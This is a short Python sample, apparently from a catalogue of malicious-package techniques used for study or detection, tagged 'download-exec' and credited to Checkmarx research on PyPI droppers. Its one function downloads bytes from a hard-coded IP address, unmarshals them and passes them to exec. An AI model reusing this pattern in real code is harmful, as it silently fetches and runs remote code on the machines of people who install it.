# technique: marshal.loads of downloaded bytes
# class: download-exec
# source: Checkmarx, marshal-serialised second stages in PyPI droppers
# declares: network
import marshal
import urllib.request


def fetch_stage():
    blob = urllib.request.urlopen("http://5.42.65.101/s2", timeout=5).read()
    exec(marshal.loads(blob))
